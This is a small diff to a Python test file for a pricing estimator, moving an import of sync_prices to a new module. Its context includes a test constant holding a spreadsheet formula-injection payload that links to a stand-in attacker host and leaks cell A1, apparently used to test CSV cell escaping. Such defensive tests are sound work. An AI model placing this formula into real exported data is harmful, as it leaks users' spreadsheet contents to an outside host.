@@ -9,8 +9,8 @@ from urllib.parse import urlencode
 import pytest
 
 from estimator.csv_cells import from_spreadsheet_cell, spreadsheet_cell
-from pricing.catalog import sync_prices
 from pricing.models import LanguageModel, TokenPrice
+from pricing.sync import sync_prices
 
 HOSTILE_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
 
